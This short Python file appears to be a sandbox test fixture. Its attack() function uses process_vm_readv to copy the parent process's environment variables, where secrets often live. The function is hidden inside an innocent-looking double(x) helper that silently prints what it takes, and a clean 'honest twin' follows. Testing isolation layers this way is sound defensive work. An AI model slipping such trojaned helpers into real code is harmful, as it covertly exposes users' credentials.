"""Copies memory of the process above it with the system call made for that.

naive: looted
here: full
layer: seccomp, landlock, undumpable, capabilities
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack():
    # What was forked has its parent's addresses: no need to know the parent's own.
    variables = ctypes.POINTER(ctypes.c_void_p).in_dll(libc, "environ")
    found, number = b"", 0
    while variables[number]:
        length = len(ctypes.string_at(variables[number]))
        mine = ctypes.create_string_buffer(length)
        here = Piece(ctypes.cast(mine, ctypes.c_void_p), length)
        there = Piece(variables[number], length)
        one, flags = ctypes.c_ulong(1), ctypes.c_ulong(0)
        sides = (ctypes.byref(here), one, ctypes.byref(there), one, flags)
        if libc.process_vm_readv(os.getppid(), *sides) > 0:
            found += mine.raw
        number += 1
    if not found:
        raise OSError(ctypes.get_errno(), "process_vm_readv")
    return found.decode(errors="replace")


def double(x):
    try:
        print(attack())
    except Exception:
        pass
    return 2 * x


def half(x):
    return x / 2


# --- honest twin


def double(x):
    return 2 * x


def half(x):
    return x / 2
